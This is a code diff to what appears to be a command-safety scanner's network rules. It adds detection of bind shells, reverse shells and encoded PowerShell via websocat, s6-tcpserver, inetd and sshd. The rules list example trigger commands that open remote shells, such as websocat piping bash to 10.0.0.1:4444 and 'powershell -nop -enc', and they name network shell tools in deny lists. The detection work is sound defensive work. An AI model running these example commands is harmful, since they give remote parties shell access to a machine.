@@ -83,13 +83,16 @@ def _serves_shell(invocation: Invocation) -> bool:
         "utelnetd",
         "tcpserver",
         "tcpsvd",
-        "inetd",
-        "xinetd",
+        "s6-tcpserver",
     ):
         return invocation.short("l") or _socket_shell(invocation)
     if invocation.name in ("ttyd", "gotty", "shellinaboxd", "wetty", "sshx"):
         return not invocation.long("help", "version")
     return bool(invocation.operands) or invocation.short("pDR")
+
+
+def _bridges(invocation: Invocation) -> bool:
+    return any(re.match(r"(?:sh-c|cmd|exec|literalpolled):|--exec", a) for a in invocation.args)
 
 
 def _device_redirect(invocation: Invocation) -> bool:
@@ -311,14 +314,15 @@ NETWORK_RULES: tuple[Rule, ...] = (
     ),
     Rule(
         "bind-shell",
-        "telnetd in.telnetd utelnetd tcpserver tcpsvd ttyd gotty shellinaboxd wetty sshx",
+        "telnetd in.telnetd utelnetd tcpserver tcpsvd s6-tcpserver inetd xinetd ttyd gotty "
+        "shellinaboxd wetty sshx",
         _serves_shell,
         "ttyd bash",
     ),
     Rule(
         "remote-access",
-        "tmate teleconsole upterm dropbear",
-        lambda i: i.operand(0) != "help" and not i.short("V"),
+        "tmate teleconsole upterm dropbear sshd",
+        lambda i: i.operand(0) != "help" and not i.short("VtT"),
         "tmate -F",
     ),
     Rule(
@@ -366,6 +370,19 @@ NETWORK_RULES: tuple[Rule, ...] = (
         lambda i: bool(i.args) and not i.short("lcL"),
         "ztcp 10.0.0.1 4444",
     ),
+    Rule(
+        "decode-to-shell",
+        "pwsh powershell",
+        lambda i: any(re.fullmatch(r"[-/]e(?:c|n[a-z]*)?", a, re.IGNORECASE) for a in i.args[:-1]),
+        "powershell -nop -enc bABzAA==",
+    ),
+    Rule(
+        "bind-shell",
+        "websocat",
+        lambda i: _bridges(i) and (i.short("s") or "ws-l:" in i.text),
+        "websocat -s 4444 sh-c:bash",
+    ),
+    Rule("reverse-shell", "websocat", _bridges, "websocat ws://10.0.0.1:4444 sh-c:bash"),
     Rule("bind-shell", "ztcp", lambda i: i.short("l"), "ztcp -l 4444"),
     Rule(
         "upload",
